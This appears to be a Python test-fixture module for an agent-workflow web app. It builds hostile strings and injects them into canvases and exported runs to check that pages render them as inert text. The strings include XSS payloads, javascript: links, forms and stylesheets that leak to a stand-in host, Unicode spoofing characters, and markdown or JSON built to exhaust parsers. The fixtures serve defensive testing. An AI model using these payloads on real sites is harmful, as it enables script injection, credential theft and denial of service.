"""Hostile texts for the web pages, and every place where an author, a user or a model can put one.

A page must show each of them as text: no element out of it, no request to another host, nothing invisible.
"""

import json
import re
from collections.abc import Mapping
from typing import Any

from tests.integration.api.talking import canvas

REVERSED = "\u202egpj.exe"
ELSEWHERE = "http://127.0.0.1:9"  # a host that no page may ask; nobody listens there

TEXTS: Mapping[str, str] = {
    "an image": "<img src=x onerror=alert(1)>",
    "a script": "<script>alert(1)</script>",
    "a script that ends another": "</script><script>alert(1)</script>",
    "a drawing": "<svg/onload=alert(1)>",
    "a frame": f"<iframe srcdoc='<script>alert(1)</script>' src={ELSEWHERE}/leak></iframe>",
    "a form": f"<form action={ELSEWHERE}/leak><input name=password autofocus onfocus=alert(1)>",
    "another base": f"<base href={ELSEWHERE}/><meta http-equiv=refresh content=0;url={ELSEWHERE}/leak>",
    "a style": f"<style>@import '{ELSEWHERE}/leak.css';</style><link rel=stylesheet href={ELSEWHERE}/leak.css>",
    "the end of an attribute": '"\' onmouseover=alert(1) x="><img src=x onerror=alert(1)>',
    "a template": "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "a reversed name": REVERSED,
    "a hidden name": "a\u200bb\u2066c\U000e0041\u00ad",
    "controls": "a\u0007\u001b[2Jb",
}
"""Texts by what they would become if a page did not show them as text."""

MARKDOWN = "\n\n".join(
    [
        "# Title " + REVERSED,
        "[click](javascript:alert(1)) [tab](java\tscript:alert(1)) [entity](javascript&colon;alert(1))",
        "[vb](vbscript:x) [data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
        "[fine](https://example.com/page) [deceiving](https://example.com@127.0.0.1:9/leak)",
        f"![leak]({ELSEWHERE}/leak.png) ![]({ELSEWHERE}/leak.png) ![svg](data:image/svg+xml;base64,PHN2Zy8+)",
        f"[ref]: {ELSEWHERE}/leak\n\n[ref] ![ref] [^1]\n\n[^1]: note",
        *TEXTS.values(),
        "| a | b |\n|---|---|\n| <b onclick=alert(1)>x</b> | 2 |",
        "```html\n<script>alert(1)</script>\n```",
    ]
)
"""Markdown with links and images that must not be followed or loaded, and HTML that must be text."""

LINE = f"{REVERSED} {TEXTS['an image']}{TEXTS['a script']} [click](javascript:alert(1)) ![]({ELSEWHERE}/leak)"
"""What names and titles are made of: their length is limited."""

HEAVY_MARKDOWN: Mapping[str, str] = {
    "a list of 50,000 items": "- a\n" * 50_000,
    "quotes in quotes": ">" * 50_000,
    "lists in lists": "- " * 25_000,
    "emphasis": "**a" * 30_000,
    "links": "[a](" * 20_000,
    "columns": "|a" * 40_000,
    "headings": "a\n-\n" * 20_000,
}
"""Markdown on which a parser works for minutes, or falls through the stack."""

MIB = 1024 * 1024
DEEP = 10_000

_STRUCTURE = {
    "format", "id", "activation_id", "node_id", "agent_id", "version_id", "session_id", "digest", "status", "scope",
    "order_key", "outcome", "event", "bodies", "kind", "parent", "from", "to", "key", "stream", "end_reason",
    "component_id", "messages", "tools", "response", "type", "exported_at",
}  # fmt: skip
_IDENTIFIER = re.compile(r"^[0-9a-f]{32}$|^\d{4}-\d\d-\d\dT")


def poison(value: Any, text: str = LINE, key: str = "") -> Any:
    """Return an exported run whose texts are all hostile, where they are not part of its structure."""
    if isinstance(value, str):
        return value if key in _STRUCTURE or not value or _IDENTIFIER.match(value) else text
    if isinstance(value, list):
        return [poison(each, text, key) for each in value]
    if not isinstance(value, dict):
        return value
    poisoned = {name: poison(each, text, name) for name, each in value.items()}
    return {**poisoned, text: text} if key in ("inputs", "outputs", "variables", "arguments") else poisoned


def nested(depth: int = DEEP) -> str:
    """Return JSON that is nested so deep."""
    return "[" * depth + "]" * depth


def hostile_canvas(model: str) -> dict[str, Any]:
    """Return a canvas with hostile names, greeting, form and answer: it asks a form, then a model that has a tool."""
    fields = {
        "name": {"type": "line", "name": LINE},
        "way": {"type": "options", "name": LINE, "options": [LINE, MARKDOWN]},
    }
    search = {"component_name": "TavilySearch", "name": LINE, "params": {"api_key": "tvly-test"}}
    agent = {
        "llm_id": model,
        "sys_prompt": MARKDOWN,
        "prompts": [{"role": "user", "content": "{sys.query}"}],
        "tools": [search],
        "max_retries": 0,
    }
    start = {"prologue": MARKDOWN, "inputs": {"topic": {"type": "line", "name": LINE, "value": LINE}}}
    document = canvas(
        ("begin", "Begin", start, ["UserFillUp:Who"]),
        ("UserFillUp:Who", "UserFillUp", {"enable_tips": True, "tips": MARKDOWN, "inputs": fields}, ["Agent:Analyst"]),
        ("Agent:Analyst", "Agent", agent, ["Message:Answer"]),
        ("Message:Answer", "Message", {"content": ["{Agent:Analyst@content}{UserFillUp:Who@way}"]}, ["Message:End"]),
        ("Message:End", "Message", {"content": [MARKDOWN]}, []),
    )
    for node in document["graph"]["nodes"]:
        node["data"]["name"] = f"{LINE} {node['id']}"
    return document


def failing_canvas() -> dict[str, Any]:
    """Return a canvas that fails with hostile texts in its error."""
    variable = {"variable": f"env.{LINE}", "operator": "+=", "parameter": 1}
    document = canvas(
        ("begin", "Begin", {}, ["VariableAssigner:0"]),
        ("VariableAssigner:0", "VariableAssigner", {"variables": [variable]}, ["Message:0"]),
        ("Message:0", "Message", {"content": ["never"]}, []),
    )
    for node in document["graph"]["nodes"]:
        node["data"]["name"] = LINE
    return document


def with_deep_value(document: Mapping[str, Any], activation_id: str) -> str:
    """Return an exported run as text, in which a step has an output that is nested deep, and long ones."""
    values = [dict(row) for row in document["values"]]
    for row in values:
        if row["activation_id"] == activation_id:
            row["outputs"] = {"line": "x" * MIB, "many": list(range(50_000)), "deep": "DEEP"}
    return json.dumps({**document, "values": values}).replace('"DEEP"', nested())
